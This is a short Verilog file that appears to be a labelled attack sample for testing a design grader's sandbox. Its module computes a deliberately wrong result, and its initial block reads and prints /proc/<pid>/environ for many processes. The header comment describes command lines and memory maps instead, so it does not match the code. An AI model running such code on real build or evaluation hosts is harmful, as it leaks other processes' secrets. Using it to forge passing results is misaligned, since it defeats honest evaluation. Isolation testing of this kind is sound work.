// SPDX-License-Identifier: Apache-2.0
// attack: reads_the_command_lines
// class: leak
// does: Prints the command lines and memory maps of processes that it sees.
// must not: tell a path of the user.
// speed: fast
module TopModule(input clk, input rst, input [7:0] a, input [7:0] b, output reg [7:0] q);
    always @(posedge clk) q <= rst ? 8'd0 : a - b;  // wrong, so a pass is a forgery
    integer f, i, c, n;
    reg [8*32:1] name;
    initial for (i = 1; i < 40; i = i + 1) begin
        $sformat(name, "/proc/%0d/environ", i);
        f = $fopen(name, "r");
        n = 0;
        c = f == 0 ? -1 : $fgetc(f);
        while (c != -1 && n < 4000) begin
            if (c != 0) $write("%c", c);
            c = $fgetc(f);
            n = n + 1;
        end
    end
endmodule
